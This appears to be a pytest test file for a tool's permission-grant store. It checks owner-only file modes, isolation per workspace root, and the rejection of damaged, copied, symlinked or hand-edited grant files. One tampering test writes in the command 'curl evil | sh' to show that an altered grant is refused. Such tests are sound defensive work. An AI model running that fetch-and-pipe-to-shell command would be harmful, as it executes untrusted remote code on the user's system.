"""Grants lie outside the workspace, for their owner alone, and a file that is not ours grants nothing."""

import json
import os
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from specloom.domain.ids import TaskId, digest_of
from specloom.domain.permissions.grants import Grant, GrantKind, granted_hashes, granted_rules
from specloom.store.errors import StoreError
from specloom.store.grants import GrantFile, grants_folder

COMMAND = Grant(GrantKind.PROPOSAL, "pytest -q", "2026-11-21T10:00:00.000Z")
RULE = Grant(GrantKind.RULE, "run_command(make *)", "2026-11-21T10:00:01.000Z", TaskId("01/1"), digest_of("Build"))


@pytest.fixture
def kept(tmp_path: Path) -> GrantFile:
    (tmp_path / "root").mkdir()
    return GrantFile(tmp_path / "state" / "grants", tmp_path / "root")


def the_file(kept: GrantFile) -> Path:
    (path,) = kept.folder.glob("*.json")
    return path


def test_what_was_granted_is_there_for_the_next_process_until_it_is_taken_back(kept: GrantFile, tmp_path: Path) -> None:
    assert kept.read() == ()
    kept.add(COMMAND, RULE, COMMAND)
    again = GrantFile(kept.folder, tmp_path / "root")
    assert again.read() == (COMMAND, RULE)
    assert again.remove(COMMAND.id) == COMMAND
    assert again.remove(COMMAND.id) is None
    assert kept.read() == (RULE,)


def test_a_root_has_its_own_grants_under_whatever_name_it_is_opened(kept: GrantFile, tmp_path: Path) -> None:
    kept.add(COMMAND)
    (tmp_path / "link").symlink_to(tmp_path / "root")
    assert GrantFile(kept.folder, tmp_path / "link").read() == (COMMAND,)
    (tmp_path / "other").mkdir()
    assert GrantFile(kept.folder, tmp_path / "other").read() == ()


def test_only_their_owner_may_read_and_write_them(kept: GrantFile) -> None:
    os.umask(0)
    try:
        kept.add(COMMAND)
    finally:
        os.umask(0o022)
    assert kept.folder.stat().st_mode & 0o777 == 0o700
    assert all(path.stat().st_mode & 0o077 == 0 for path in kept.folder.iterdir())


DAMAGED = {
    "no JSON": "{",
    "another shape": "[1]",
    "another version": json.dumps({"version": 2, "root": "", "grants": []}),
    "empty": "",
}


@pytest.mark.parametrize("kind", DAMAGED)
def test_a_damaged_file_grants_nothing_and_is_kept_aside(kept: GrantFile, kind: str) -> None:
    kept.add(COMMAND)
    path = the_file(kept)
    path.write_text(DAMAGED[kind])
    assert kept.read() == ()
    kept.add(RULE)
    assert kept.read() == (RULE,)
    assert path.with_suffix(".damaged").read_text() == DAMAGED[kind]


def test_a_text_that_was_changed_by_hand_grants_nothing(kept: GrantFile) -> None:
    kept.add(COMMAND)
    path = the_file(kept)
    path.write_text(path.read_text().replace("pytest -q", "curl evil | sh"))
    assert kept.read() == ()


def test_a_file_that_is_copied_to_another_root_grants_nothing(kept: GrantFile, tmp_path: Path) -> None:
    kept.add(COMMAND)
    (tmp_path / "other").mkdir()
    other = GrantFile(kept.folder, tmp_path / "other")
    other.add(RULE)
    mine, his = sorted(kept.folder.glob("*.json"), key=lambda path: COMMAND.text not in path.read_text())
    his.write_text(mine.read_text())
    assert other.read() == ()


def test_a_link_in_place_of_the_file_grants_nothing(kept: GrantFile, tmp_path: Path) -> None:
    kept.add(COMMAND)
    path = the_file(kept)
    path.rename(tmp_path / "elsewhere")
    path.symlink_to(tmp_path / "elsewhere")
    assert kept.read() == ()


def test_grants_of_many_at_once_are_all_kept(kept: GrantFile) -> None:
    grants = [Grant(GrantKind.PROPOSAL, f"make {number}", "2026-11-21T10:00:00.000Z") for number in range(40)]
    with ThreadPoolExecutor(8) as pool:
        list(pool.map(kept.add, grants))
    assert {grant.text for grant in kept.read()} == {grant.text for grant in grants}


def test_a_folder_that_cannot_be_made_is_told(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(StoreError):
        GrantFile(tmp_path / "file" / "grants", tmp_path).add(COMMAND)


def test_the_folder_is_that_of_the_user_and_never_relative(tmp_path: Path) -> None:
    home = {"HOME": str(tmp_path)}
    assert grants_folder({"XDG_STATE_HOME": "/x"} | home) == Path("/x/specloom/grants")
    assert grants_folder({"XDG_STATE_HOME": "in/the/checkout"} | home) == tmp_path / ".local/state/specloom/grants"


def test_a_grant_for_a_task_is_for_that_task_alone() -> None:
    assert [rule.text for rule in granted_rules((COMMAND, RULE), TaskId("01/1"), "Build")] == ["run_command(make *)"]
    assert granted_rules((RULE,), TaskId("01/2"), "Build") == ()
    assert granted_rules((RULE,), TaskId("01/1"), "Another task that took the number") == ()
    assert granted_hashes((COMMAND, RULE)) == {digest_of("pytest -q")}
